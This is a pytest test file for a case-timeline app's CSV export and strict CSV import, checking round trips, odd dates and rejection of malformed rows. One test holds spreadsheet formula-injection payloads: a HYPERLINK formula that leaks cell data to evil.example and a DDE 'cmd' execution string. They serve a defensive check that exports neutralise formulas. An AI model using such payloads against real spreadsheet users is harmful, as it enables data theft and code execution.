"""CSV: spreadsheet-safe export, and an all-or-nothing import with row-level errors."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.interchange import casejson, csv_import, csvfmt
from app.interchange.import_outcome import ImportRejected, RowError
from app.interchange.table import neutralise, restore
from app.store.case import Case

DATA = Path(__file__).parent.parent / "data"


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def rejected(case: Case, data: bytes) -> list[RowError]:
    before = casejson.export_document(case)
    with pytest.raises(ImportRejected) as caught:
        csv_import.import_csv(case, data)
    assert casejson.export_document(case) == before, "a rejected import changed the case"
    return caught.value.errors


# -- export --------------------------------------------------------------------------------


def test_export_has_the_documented_columns(demo_case: Case) -> None:
    data = csvfmt.export_csv(demo_case)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = rows_of(data)
    assert tuple(rows[0]) == csvfmt.COLUMNS
    assert len(rows) == len(demo_case.events())
    cited = next(r for r in rows if r["citations"])
    first = cited["citations"].split("; ")[0].split("|")
    assert first[0].isdigit() and first[2] in ("supports", "contradicts", "context")
    assert cited["sources"]


def test_csv_round_trip_keeps_every_field(empty_case, demo_case: Case, tmp_path: Path) -> None:
    data = csvfmt.export_csv(demo_case)
    with empty_case(tmp_path / "copy.case", title="copy") as copy:
        for s in demo_case.sources():  # citations point at sources by id
            copy.create_source(title=s.title, kind=s.kind, source_id=s.id)
        report = csv_import.import_csv(copy, data)
        assert len(report.events) == len(demo_case.events())
        for a, b in zip(demo_case.events(), copy.events(), strict=True):
            assert (a.id, a.title, a.description, a.status, a.key_fact, a.lane, a.tags) == (
                b.id,
                b.title,
                b.description,
                b.status,
                b.key_fact,
                b.lane,
                b.tags,
            )
            for x, y in ((a.start, b.start), (a.end, b.end)):
                assert (x is None) == (y is None)
                if x is not None:
                    assert x.same_claim(y) and x.precision is y.precision
            assert [(e.name, e.role) for e in a.entities] == [(e.name, e.role) for e in b.entities]
            assert [(c.source_id, c.pinpoint, c.stance, c.quote) for c in a.citations] == [
                (c.source_id, c.pinpoint, c.stance, c.quote) for c in b.citations
            ]
        assert copy.check() == []
        assert csvfmt.export_csv(copy) == data


def test_odd_dates_and_list_separators_survive(empty_case, new_case: Case, tmp_path: Path) -> None:
    from app.domain.dates import FuzzyDate

    sid = new_case.create_source(title="S", kind="web").created("source")
    start = FuzzyDate.from_parts(2004, 3, text="Spring 2004")  # text that does not re-parse
    eid = new_case.create_event(
        title="T", start=start, tags=["a;b", "c|d"], description="x"
    ).created("event")
    new_case.add_citation(event_id=eid, source_id=sid, pinpoint="p. 3; n. 2", quote="a|b\\c")
    data = csvfmt.export_csv(new_case)
    assert rows_of(data)[0]["start"] == "2004-03"
    with empty_case(tmp_path / "copy.case", title="copy") as copy:
        copy.create_source(title="S", kind="web", source_id=sid)
        csv_import.import_csv(copy, data)
        (ev,) = copy.events()
        assert ev.start.same_claim(start) and ev.start.precision.value == "month"
        assert ev.tags == ("a;b", "c|d")
        assert (ev.citations[0].pinpoint, ev.citations[0].quote) == ("p. 3; n. 2", "a|b\\c")


def test_formulas_are_neutralised_unless_raw(new_case: Case) -> None:
    csv_import.import_csv(new_case, (DATA / "formulas.csv").read_bytes())
    titles = {e.title for e in new_case.events()}
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in titles  # kept as plain text
    assert "@SUM(1)" in titles
    descriptions = {e.description for e in new_case.events()}
    assert {"+cmd|'/c calc'!A0", "-2+3", "\tindented"} <= descriptions

    safe = rows_of(csvfmt.export_csv(new_case))
    for row in safe:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'@SUM(1)" in {r["title"] for r in safe}

    raw = rows_of(csvfmt.export_csv(new_case, raw=True))
    assert "@SUM(1)" in {r["title"] for r in raw}
    assert "-2+3" in {r["description"] for r in raw}


def test_neutralise_is_reversible() -> None:
    for text in ["=1+1", "'=1+1", "''@x", "plain", "'quoted", "-", "", "\r\nx"]:
        assert restore(neutralise(text)) == text
    assert neutralise("=1") == "'=1" and neutralise("'=1") == "''=1"


def test_example_file_imports_with_precision(new_case: Case) -> None:
    report = csv_import.import_csv(new_case, (DATA / "events.csv").read_bytes())
    assert len(report.events) == 4 and report.tags == ["contract", "delivery", "signing"]
    by_title = {e.title: e for e in new_case.events()}
    signed = by_title["Contract signed"]
    assert signed.start.precision.value == "day" and signed.key_fact
    assert signed.description == "Roe signs for the buyer.\nWitnessed by two people."
    assert {(e.name, e.role) for e in signed.entities} == {
        ("Jane Roe", "signatory"),
        ("Acme Ltd", "seller"),
    }
    late = by_title["Goods delivered late"]
    assert late.start.qualifier.value == "circa" and late.end.qualifier.value == "between"
    assert by_title["Undated meeting"].start is None
    assert by_title["Formula-looking text"].description == "=1+1"


def test_day_first_follows_the_case(empty_case, tmp_path: Path) -> None:
    data = b"title,start\r\nx,3/4/2020\r\n"
    with empty_case(tmp_path / "a.case", title="a", day_first=True) as case:
        csv_import.import_csv(case, data)
        assert case.events()[0].start.earliest.month == 4
    plan = csv_import.check_csv(data, day_first=False)
    assert plan.events[0].start.earliest.month == 3 and plan.warnings


def test_dry_run_writes_nothing(new_case: Case) -> None:
    before = casejson.export_document(new_case)
    report = csv_import.import_csv(new_case, (DATA / "events.csv").read_bytes(), dry_run=True)
    assert report.dry_run and len(report.events) == 4
    assert casejson.export_document(new_case) == before


# -- hostile files ---------------------------------------------------------------------------


def test_impossible_date_and_unknown_status(new_case: Case) -> None:
    errors = rejected(new_case, (DATA / "impossible_date.csv").read_bytes())
    assert [(e.row, e.column) for e in errors] == [(3, "start"), (4, "status")]
    assert "2021-02-30" in errors[0].reason


def test_bad_utf8_names_row_and_byte_offset(new_case: Case) -> None:
    data = (DATA / "bad_utf8.csv").read_bytes()
    errors = rejected(new_case, data)
    assert len(errors) == 1 and errors[0].row == 3 and errors[0].column == "title"
    offset = data.index(b"\xff")
    assert f"byte offset {offset}" in errors[0].reason


def test_nul_byte(new_case: Case) -> None:
    errors = rejected(new_case, (DATA / "nul.csv").read_bytes())
    assert [(e.row, e.column) for e in errors] == [(3, "title")]


def test_ragged_rows(new_case: Case) -> None:
    errors = rejected(new_case, (DATA / "ragged.csv").read_bytes())
    assert [e.row for e in errors] == [3, 4]
    assert "4 cells" in errors[0].reason and "1 cells" in errors[1].reason


def test_duplicate_header(new_case: Case) -> None:
    errors = rejected(new_case, (DATA / "duplicate_header.csv").read_bytes())
    assert [(e.row, e.column) for e in errors] == [(1, "TITLE")]


def test_missing_and_unknown_columns(new_case: Case) -> None:
    errors = rejected(new_case, b"headline,when\r\nx,2020\r\n")
    reasons = {e.column: e.reason for e in errors}
    assert "unknown" in reasons["headline"] and "missing" in reasons["title"]


@pytest.mark.parametrize("size", [100_001, 200_000])
def test_oversized_field(new_case: Case, size: int) -> None:
    data = b"title,start,description\r\nok,2020,x\r\nbig,2020," + b"a" * size + b"\r\nok,2021,y\r\n"
    errors = rejected(new_case, data)
    assert [e.row for e in errors] == [3]
    assert "100,000" in errors[0].reason


def test_one_bad_row_among_many_imports_nothing(new_case: Case) -> None:
    lines = ["title,start"] + [f"event {i},{2000 + i % 20}" for i in range(2000)]
    lines[1500] = "bad,2021-02-30"
    errors = rejected(new_case, ("\r\n".join(lines) + "\r\n").encode())
    assert [e.row for e in errors] == [1501]
    assert new_case.events() == []


def test_unknown_source_and_taken_id_are_row_errors(demo_case: Case) -> None:
    data = b"id,title,start,citations\r\n1,dup id,2020,\r\n,x,2020,999|p. 1\r\n"
    errors = rejected(demo_case, data)
    assert [(e.row, e.column) for e in errors] == [(2, "id"), (3, "citations")]
    report = csv_import.import_csv(demo_case, data.replace(b"999", b"1"), keep_ids=False)
    assert len(report.events) == 2 and report.citations == 1


def test_garbage_never_crashes(new_case: Case) -> None:
    for data in [b"", b"\x00\x00", b'title,start\r\n"unterminated,2020\r\n', bytes(range(256))]:
        plan = csv_import.check_csv(data, day_first=False)
        assert plan.errors
        with pytest.raises(ImportRejected):
            csv_import.import_csv(new_case, data)


def test_write_csv(demo_case: Case, tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    csvfmt.write_csv(demo_case, target)
    assert target.read_bytes() == csvfmt.export_csv(demo_case)
